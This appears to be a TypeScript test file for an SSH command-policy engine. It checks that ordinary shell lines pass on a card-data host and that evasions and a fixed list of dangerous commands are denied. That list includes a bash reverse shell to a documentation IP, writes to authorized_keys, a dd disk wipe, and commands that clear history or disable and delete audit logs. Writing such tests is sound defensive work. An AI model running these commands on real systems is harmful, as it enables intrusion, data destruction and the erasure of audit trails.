import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { test } from 'node:test'
import { personName, targetName } from '../../src/model/ids.ts'
import type { ActionFacts } from '../../src/model/action-facts.ts'
import type { Verdict } from '../../src/model/verdict.ts'
import { createPolicy } from '../../src/policy/decide.ts'
import { loadPack } from '../../src/policy/load.ts'
import { evasions, everyday, facts } from '../classify/shell/corpus.ts'

const file = new URL('../../policies/ssh.yaml', import.meta.url)
const { pack, problems } = loadPack(readFileSync(file, 'utf8'), 'ssh.yaml')
const policy = createPolicy(pack === undefined ? [] : [pack])

const decide = (found: readonly ActionFacts[]): Verdict =>
  policy.decide({
    facts: found,
    principal: { person: personName('alice'), roles: ['engineer'], service: false },
    target: {
      name: targetName('web-1'),
      protocol: 'ssh',
      database: '',
      account: 'app',
      tags: ['cde'],
    },
  })

const ruled = (text: string): string => {
  const { effect, matches } = decide(facts(text))
  return `${effect} ${matches.map(({ rule }) => rule).join(' ')}`
}

test('the pack of hosts loads', () => {
  assert.deepEqual(problems, [])
})

test('every everyday line passes on a target of the card-data environment', () => {
  assert.deepEqual(
    everyday()
      .map((text) => `${ruled(text)}: ${text}`)
      .filter((line) => !line.startsWith('allow')),
    [],
  )
})

test('no evasion passes, and none is refused for want of a rule', () => {
  assert.deepEqual(
    evasions()
      .map(({ text }) => `${ruled(text)}: ${text}`)
      .filter((line) => line.startsWith('allow') || line.includes('floor/no-rule')),
    [],
  )
})

const denied = [
  'echo x >> ~/.ssh/authorized_keys',
  'cd ~/.ssh && echo x >> authorized_keys',
  'sudo sh -c "echo x >> /root/.ssh/authorized_keys"',
  'find /tmp -name k -exec cp {} /home/bob/.ssh/authorized_keys \\;',
  'bash -i >& /dev/tcp/198.51.100.7/443 0>&1',
  'exec 5<>/dev/tcp/198.51.100.7/443',
  'sudo dd if=/dev/zero of=/dev/sda',
  'history -c',
  'sudo auditctl -e 0',
  'sudo rm -f /var/log/auth.log',
]

test('what defeats the product is refused, behind wrappers too', () => {
  assert.deepEqual(
    denied.map((text) => `${ruled(text).split(' ')[0] ?? ''}: ${text}`),
    denied.map((text) => `deny: ${text}`),
  )
})
